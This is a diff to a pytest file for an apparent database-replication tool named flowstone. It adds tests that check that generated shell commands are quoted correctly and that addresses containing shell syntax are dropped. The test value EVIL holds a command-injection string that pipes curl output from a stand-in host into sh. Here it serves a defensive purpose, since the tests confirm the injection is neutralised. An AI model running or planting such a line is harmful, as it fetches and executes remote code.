@@ -5,6 +5,7 @@ from __future__ import annotations
 import pytest
 
 from flowstone.observation.findings.wording import (
+    call,
     expel,
     expel_command,
     for_command,
@@ -12,6 +13,8 @@ from flowstone.observation.findings.wording import (
     promote,
     rows_text,
     seconds_text,
+    set_option,
+    set_replication_again,
 )
 from flowstone.observation.replica_set import Member, ReplicaSet, replica_sets
 from tests.observation.reports import report, upstream, uuid
@@ -25,6 +28,14 @@ EVIL = "x; curl evil|sh #:1"
 )
 def test_duration_is_shown_in_a_readable_unit(seconds: float, text: str) -> None:
     assert seconds_text(seconds) == text
+
+
+def test_commands_are_quoted_for_a_shell() -> None:
+    assert set_option("db1:3301", "read_only", False) == "`flowstone config db1:3301 read_only=false`"
+    quorum = set_option("db1:3301", "replication_synchro_quorum", "N / 2 + 1")
+    assert quorum == "`flowstone config db1:3301 'replication_synchro_quorum=N / 2 + 1'`"
+    assert call(EVIL, "f", "a b", "it's", "`evil`") == "`flowstone call URI f 'a b' 'it'\"'\"'s' ARGUMENT`"
+    assert set_replication_again(EVIL) == "`flowstone config URI --reconnect`"
 
 
 def test_one_row_is_singular() -> None:
@@ -54,7 +65,7 @@ def test_command_omits_addresses_that_a_shell_would_split(address: str | None) -
     assert for_command(address) == "URI"
 
 
-def test_commands_name_no_address_that_does_more_than_say_where() -> None:
+def test_commands_contain_no_address_with_shell_syntax() -> None:
     told = report(1, {1: 3}, {2: {"upstream": upstream(2, peer=EVIL)}})
     (one,) = replica_sets([told])
     member = one.member(uuid(2))
